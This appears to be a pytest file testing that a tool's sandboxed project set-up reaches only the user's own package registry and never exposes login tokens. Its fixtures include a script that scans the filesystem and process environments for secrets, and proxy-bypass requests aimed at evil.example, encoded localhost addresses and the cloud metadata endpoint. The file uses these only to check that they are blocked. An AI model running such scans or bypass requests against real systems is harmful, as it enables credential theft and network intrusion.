"""Projects whose dependencies are not installed: the set-up gets them from the user's registry, once."""

import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from reknit.adapters.setup.proxy import SetupAuthority
from tests.environment.fault_scene import SAID, Build, Scene
from tests.tools.package_registry import Registry, serving, wheel, wheel_of_installed

PIP = "python3 -m venv .venv && .venv/bin/pip install -q -r requirements.txt"
PYTHON = {
    "requirements.txt": "pytest\ntiny-sum==1.0\n",
    ".gitignore": ".venv/\n",
    "calc.py": "from tiny_sum import plus\n\n\ndef add(a, b):\n    return plus(a, -b)\n",
    "tests/test_calc.py": "from calc import add\n\n\ndef test_add():\n    assert add(1, 2) == 3\n",
    "conftest.py": "",
    "reknit.toml": f"setup = {json.dumps(PIP)}\n",
}
FIXED = {"calc.py": "from tiny_sum import plus\n\n\ndef add(a, b):\n    return plus(a, b)\n"}


@pytest.fixture
def registry() -> Iterator[Registry]:
    made = Registry()
    for name in ("pytest", "pluggy", "iniconfig", "packaging", "pygments"):
        made.add_wheel(*wheel_of_installed(name))
    made.add_wheel(*wheel("tiny_sum", "1.0", {"tiny_sum.py": "def plus(a, b):\n    return a + b\n"}))
    with serving(made):
        yield made


def use_pip(scene: Scene, registry: Registry) -> None:
    config = Path(scene.command.environment["HOME"], ".config/pip/pip.conf")
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text(f"[global]\nindex-url = {registry.address}/simple\n")


def test_a_python_project_is_set_up_from_a_cold_cache_and_then_from_its_layer(scene: Build, registry: Registry) -> None:
    made = scene(PYTHON)
    use_pip(made, registry)
    answer = made.repair(FIXED)
    assert (answer.exit_code, made.ending[0]) == (0, "FIXED"), answer.out + answer.err
    cold = len(registry.asked)
    assert cold >= 12  # a page and a file for each of six packages
    assert not (made.repository / ".venv").exists()
    registry.asked.clear()
    answer = made.repair(FIXED, "--again")
    assert (answer.exit_code, made.ending[0]) == (0, "FIXED"), answer.out + answer.err
    assert registry.asked == []


TOKEN, IN_PATH = "npm_canary0123456789abcdefghijklmnopqrst", "pathcanary9876543210"
LOOK = """\
// Every file that this box shows outside of the system's programs, every environment and command line.
const fs = require('fs');
const canaries = CANARIES.map((text) => Buffer.from([...text].reverse().join('')));
const skipped = new Set(['/usr', '/lib', '/lib64', '/bin', '/sbin', '/sys', '/dev', '/proc']);
const found = { read: 0, hits: [] };
const look = (path) => {
  try {
    const text = fs.readFileSync(path);
    found.read += 1;
    if (canaries.some((canary) => text.includes(canary) || path.includes(canary.toString()))) found.hits.push(path);
  } catch {}
};
const walk = (folder) => {
  let entries = [];
  try { entries = fs.readdirSync(folder, { withFileTypes: true }); } catch {}
  for (const entry of entries) {
    const path = folder === '/' ? `/${entry.name}` : `${folder}/${entry.name}`;
    if (skipped.has(path)) continue;
    if (entry.isDirectory()) walk(path);
    else if (entry.isFile()) look(path);
  }
};
walk('/');
for (const id of fs.readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name)))
  for (const name of ['environ', 'cmdline']) look(`/proc/${id}/${name}`);
module.exports = found;
""".replace("CANARIES", json.dumps([TOKEN[::-1], IN_PATH[::-1]]))
KEEP = """\
const found = require('./look.js');
require('fs').writeFileSync('node_modules/seen.json', JSON.stringify(found));
process.exit(found.read < 10 || found.hits.length ? 1 : 0);
"""
STRIP = """\
require.extensions['.ts'] = (module, file) =>
  module._compile(require('fs').readFileSync(file, 'utf8').replace(/: number\\b/g, ''), file);
"""
TEST = """\
require('tiny-strip');
const test = require('node:test');
const assert = require('node:assert');
const { add } = require('./calc.ts');
const { hits, read } = require('./look.js');
test('adds', () => assert.equal(add(1, 2), 3));
test('sees no login', () => assert.deepEqual([hits, read > 10], [[], true]));
"""
WRONG = "const sum = require('tiny-sum');\nexports.add = (a: number, b: number): number => sum(a, -b);\n"
RIGHT = WRONG.replace("-b", "b")
AGENT = f"""\
const found = require('./look.js');
console.log({SAID!r}, JSON.stringify(found));
require('fs').writeFileSync('calc.ts', {RIGHT!r});
"""


@dataclass(frozen=True)
class Npm:
    registry: Registry
    authority: Path
    locked: dict[str, str]
    """Package -> integrity."""


@pytest.fixture
def npm(tmp_path: Path) -> Iterator[Npm]:
    """With TLS by an authority of the company's own, a login, and another one in the path."""
    authority, made = SetupAuthority(), Registry(login=f"Bearer {TOKEN}", folder=f"/{IN_PATH}")
    (tmp_path / "company.pem").write_text(authority.pem)
    with serving(made, authority.context("localhost")):
        packages = {"tiny-sum": "module.exports = (a, b) => a + b;\n", "tiny-strip": STRIP}
        locked = {name: made.add_npm(name, "1.0.0", {"index.js": text}) for name, text in packages.items()}
        yield Npm(made, tmp_path / "company.pem", locked)


def typescript_project(npm: Npm) -> dict[str, str]:
    needs = {"dependencies": dict.fromkeys(npm.locked, "1.0.0")}
    about = {"name": "shop", "version": "1.0.0"}
    packages: dict[str, object] = {
        f"node_modules/{name}": {"version": "1.0.0", "integrity": integrity} for name, integrity in npm.locked.items()
    }
    locked = {"": {**about, **needs}, **packages}
    return {
        "package.json": json.dumps({**about, "scripts": {"test": "node --test"}, **needs}),
        "package-lock.json": json.dumps({**about, "lockfileVersion": 3, "requires": True, "packages": locked}),
        "tsconfig.json": '{"compilerOptions": {"strict": true}}\n',
        ".gitignore": "node_modules/\n",
        "calc.ts": WRONG,
        "calc.test.js": TEST,
        "look.js": LOOK,
        "keep.js": KEEP,
        "reknit.toml": 'setup = "npm ci && node keep.js"\n',
    }


def test_a_typescript_project_and_logins_that_no_box_sees(scene: Build, npm: Npm) -> None:
    registry, made = npm.registry, scene(typescript_project(npm))
    home = Path(made.command.environment["HOME"])
    home.mkdir(parents=True, exist_ok=True)
    place = registry.address.partition(":")[2]
    (home / ".npmrc").write_text(f"registry={registry.address}/\n{place}/:_authToken={TOKEN}\ncafile={npm.authority}\n")
    agent = {"kind": "any_command", "command": ["node", "-e", AGENT]}
    made.command.configure(fixer="mine", agents={"mine": agent})
    for again in ((), ("--again",)):
        answer = made.here("fix", "tests", *again, cwd=made.repository)
        assert (answer.exit_code, made.ending[0]) == (0, "FIXED"), answer.out + answer.err
        assert len(registry.asked) == (0 if again else 4)  # a document and a file for each of two packages
        assert {login for _, login in registry.asked} <= {f"Bearer {TOKEN}"}
        registry.asked.clear()
    said = [line for path in (made.command.folder / "state").rglob("transcript.txt") for line in lines(path, SAID)]
    assert len(said) == 2
    assert all('"hits":[]' in line and '"read":0' not in line for line in said)
    state = [path for path in (made.command.folder / "state").rglob("*") if path.is_file() and not path.is_symlink()]
    assert any(path.name == "seen.json" and json.loads(path.read_text())["read"] > 10 for path in state)
    assert [path for path in state if any(word.encode() in path.read_bytes() for word in (TOKEN, IN_PATH))] == []


def lines(path: Path, start: str) -> list[str]:
    return [line for line in path.read_text().splitlines() if start in line]


ASK = """\
import os, socket, urllib.parse
host, port = urllib.parse.urlsplit(os.environ["http_proxy"]).netloc.split(":")
def ask(line):
    with socket.create_connection((host, int(port)), timeout=20) as box:
        box.sendall((line + " HTTP/1.1\\r\\nHost: REGISTRY\\r\\n\\r\\n").encode())
        return box.makefile("rb").readline().split()[1]
for line in open("asked.txt").read().splitlines():
    assert ask(line) in (b"400", b"403", b"501"), line
for place in (("127.0.0.1", PORT), ("evil.example", 443), ("192.0.2.1", 80)):
    try:
        socket.create_connection(place, timeout=5)
    except OSError:
        continue
    raise SystemExit("there is another way out")
raise SystemExit("all refused")
"""
OTHERS = """\
GET http://evil.example/x
GET http://EVIL.example:80/x
GET http://evil.example./x
GET http://REGISTRY@evil.example/x
GET http://REGISTRY.evil.example/x
GET http://127.1:PORT/simple/
GET http://2130706433:PORT/simple/
GET http://0x7f000001:PORT/simple/
GET http://[::ffff:127.0.0.1]:PORT/simple/
GET http://localhost:PORT/simple/
GET https://REGISTRY/simple/
GET http://127.0.0.1/simple/
GET http://169.254.169.254/latest/meta-data
GET ftp://REGISTRY/simple/
GET /simple/
CONNECT evil.example:443
CONNECT REGISTRY
CONNECT 127.0.0.1:22
CONNECT me:word@REGISTRY
POST http://REGISTRY/simple/
"""


def test_a_set_up_that_asks_for_other_hosts_is_blocked_by_name(scene: Build, registry: Registry) -> None:
    own = registry.address.removeprefix("http://")
    spelled = {
        name: text.replace("REGISTRY", own).replace("PORT", own.partition(":")[2])
        for name, text in {"ask.py": ASK, "asked.txt": OTHERS}.items()
    }
    made = scene({**PYTHON, **spelled, "reknit.toml": 'setup = "python3 ask.py # pip"\n'})
    use_pip(made, registry)
    answer = made.repair(FIXED)
    assert (answer.exit_code, made.ending, made.agent_calls) == (1, ("BLOCKED", "environment"), 0)
    assert made.reason.startswith("the set-up `python3 ask.py # pip` failed: it asked for evil.example and ")
    assert made.reason.endswith("it printed: all refused")
    assert registry.asked == []


def test_pip_that_asks_for_another_host_is_blocked_by_name(scene: Build, registry: Registry) -> None:
    made = scene({**PYTHON, "requirements.txt": "https://evil.example/tiny-1.0-py3-none-any.whl\n"})
    use_pip(made, registry)
    answer = made.repair(FIXED)
    assert (answer.exit_code, made.ending, made.agent_calls) == (1, ("BLOCKED", "environment"), 0)
    assert "it asked for evil.example, which is not a registry of yours" in made.reason
